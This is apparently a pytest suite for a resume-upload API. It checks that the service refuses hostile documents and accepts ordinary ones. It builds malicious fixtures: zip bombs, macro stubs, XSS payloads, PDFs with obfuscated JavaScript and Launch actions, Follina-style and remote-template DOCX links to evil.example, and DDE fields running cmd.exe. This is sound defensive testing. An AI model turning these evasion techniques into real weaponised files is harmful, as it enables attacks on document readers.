"""Resumes judged by what they contain: bombs, macros, embedded programs and disguised markup
are refused at intake (422), before anything is stored or uploaded to the org."""

from __future__ import annotations

import base64
import io
import struct
import uuid
import zipfile
import zlib

import pytest
from pypdf import PdfWriter

OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOCUMENT_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats'
    b'.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Ada</w:t></w:r></w:p></w:body>'
    b"</w:document>"
)


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", DOCUMENT_XML)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">' + "".join(relationships)
    ).encode() + b"</Relationships>"


def relationship(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{OFFICE_REL}/{kind}" Target="{target}"{mode}/>'


def docx_with_field(instruction_runs: list[str]) -> bytes:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instruction_runs
    )
    document = (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/>'
        f'</w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'
    ).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("word/document.xml", document)
    return buffer.getvalue()


def pdf(objects: list[bytes | None], *, packed: dict[int, tuple[int, bytes]] | None = None):
    """A PDF with a cross-reference stream; `packed` puts objects (number -> (stream object,
    body)) into a FlateDecode object stream, where a byte search cannot see them."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, 1):
        if body is not None:
            offsets[number] = out.tell()
            out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    size = len(objects) + 1
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    xref_at = out.tell()
    for number in range(1, size):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        elif packed and number in packed:
            rows.append(struct.pack(">BIH", 2, packed[number][0], 0))
        else:
            rows.append(struct.pack(">BIH", 1, xref_at, 0))  # the xref stream itself
    table = b"".join(rows)
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (size - 1, size, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    return out.getvalue()


def pdf_pages(catalog_extra: bytes = b"", page_extra: bytes = b"") -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page_extra + b" >>",
            None,  # the xref stream
        ]
    )


def pdf_link(action: bytes) -> bytes:
    return pdf_pages(
        page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>]"
    )


def pdf_javascript_in_object_stream() -> bytes:
    header, action = b"4 0 ", b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(header + action)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
            None,  # packed in object 5
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed))
            + packed
            + b"\nendstream",
            None,  # the xref stream
        ],
        packed={4: (5, action)},
    )


def real_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _submit(stack, data: bytes, filename: str):
    body = {
        "job_id": stack.job_id,
        "first_name": "Ada",
        "last_name": "Lovelace",
        "email": f"ada.{uuid.uuid4().hex}@security.example.com",
        "consent": True,
        "resume": {"filename": filename, "content_base64": base64.b64encode(data).decode()},
    }
    return stack.post("/v1/applications", json=body, headers=stack.auth(stack.sk), timeout=30)


HOSTILE = {
    "zip bomb": (docx({"word/media/pad.bin": b"\0" * 60_000_000}), "cv.docx"),
    "vba macros": (docx({"word/vbaProject.bin": OLE2 + b"\0" * 512}), "cv.docx"),
    "embedded program": (
        docx({"word/embeddings/oleObject1.bin": OLE2 + b"MZ\x90\x00" + b"\0" * 512}),
        "cv.docx",
    ),
    "ole junk": (OLE2 + bytes(range(256)) * 8, "cv.doc"),
    "html as text": (
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "cv.txt",
    ),
    "svg as text": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "cv.txt"),
    "script tag in text": (b"Ada Lovelace\n<script>fetch('//x')</script>\n", "cv.txt"),
    # [21]: what the third review got past the byte patterns
    "pdf name with #xx escapes (JavaScript)": (
        pdf_pages(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        "cv.pdf",
    ),
    "pdf name with #xx escapes (Launch)": (
        pdf_pages(b"/OpenAction << /S /#4C#61unch /F (calc.exe) >>"),
        "cv.pdf",
    ),
    "pdf javascript in a compressed object stream": (pdf_javascript_in_object_stream(), "cv.pdf"),
    "pdf uri action to javascript:": (
        pdf_link(b"<< /S /URI /URI (javascript:alert(1)) >>"),
        "cv.pdf",
    ),
    "pdf uri action to a file share": (
        pdf_link(b"<< /S /URI /URI (file://evil/share) >>"),
        "cv.pdf",
    ),
    "pdf submitform action": (
        pdf_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
        "cv.pdf",
    ),
    # past the bytes reading's budget with no structure for pypdf to read: cannot be checked
    "pdf flate bomb": (
        b"%PDF-1.7\nstream\n" + zlib.compress(b"\0" * 60_000_000) + b"endstream",
        "cv.pdf",
    ),
    "docx external oleObject (Follina)": (
        docx(
            {
                "word/_rels/document.xml.rels": rels(
                    relationship(
                        "oleObject",
                        "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html",
                    )
                )
            }
        ),
        "cv.docx",
    ),
    "docx remote template": (
        docx(
            {
                "word/_rels/settings.xml.rels": rels(
                    relationship("attachedTemplate", "https://evil.example/t.dotm")
                )
            }
        ),
        "cv.docx",
    ),
    "docx template on a file share": (
        docx(
            {
                "word/_rels/settings.xml.rels": rels(
                    relationship("attachedTemplate", "file://evil.example/share/t.dotm")
                )
            }
        ),
        "cv.docx",
    ),
    "docx altChunk html": (
        docx(
            {
                "word/_rels/document.xml.rels": rels(
                    relationship("aFChunk", "/word/chunk.htm", external=False)
                ),
                "word/chunk.htm": b"<html><body><script>alert(1)</script></body></html>",
            }
        ),
        "cv.docx",
    ),
    "docx DDEAUTO field": (
        docx_with_field([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ']),
        "cv.docx",
    ),
    "docx DDE field split across runs": (docx_with_field([" DD", 'E "cmd" "/c calc" ']), "cv.docx"),
    "text with details ontoggle": (b"Ada\n<details open ontoggle=alert(1)>\n", "cv.txt"),
    "text with video onerror": (b"Ada\n<video src=x onerror=alert(1)>\n", "cv.txt"),
    "rtf with a one instead of f": (
        b"{\\rt1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}",
        "cv.txt",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_resume_is_refused(security_stack, case):
    data, filename = HOSTILE[case]
    assert len(data) < 5_000_000
    r = _submit(security_stack, data, filename)
    assert r.status_code == 422, (case, r.text[:300])
    assert any(e["field"] == "resume" for e in r.json()["errors"]), r.json()


@pytest.mark.parametrize(
    "data,filename",
    [
        (docx(), "cv.docx"),
        (b"Ada Lovelace\nAnalyst, 1843 <ada@example.com>\n", "cv.txt"),
        (real_pdf(), "cv.pdf"),
        # the links every CV has: a web page and a mail address
        (pdf_link(b"<< /S /URI /URI (https://www.linkedin.com/in/ada) >>"), "cv.pdf"),
        (
            docx(
                {
                    "word/_rels/document.xml.rels": rels(
                        relationship("hyperlink", "mailto:ada@example.com")
                    )
                }
            ),
            "cv.docx",
        ),
        (
            docx(
                {
                    "word/_rels/settings.xml.rels": rels(
                        relationship(
                            "attachedTemplate",
                            "file:///C:/Users/ada/AppData/Roaming/Microsoft/Templates/CV.dotx",
                        )
                    )
                }
            ),
            "cv.docx",
        ),
        (b"Ada Lovelace <ada@example.com>\nSkills: C++ < Rust, 3 > 2\n", "cv.txt"),
        (b"Java generics: Map<A, B>, List<String>; <b>bold</b> claims\n", "cv.txt"),
    ],
)
def test_ordinary_resumes_still_pass(security_stack, data, filename):
    r = _submit(security_stack, data, filename)
    assert r.status_code == 202, r.text[:300]
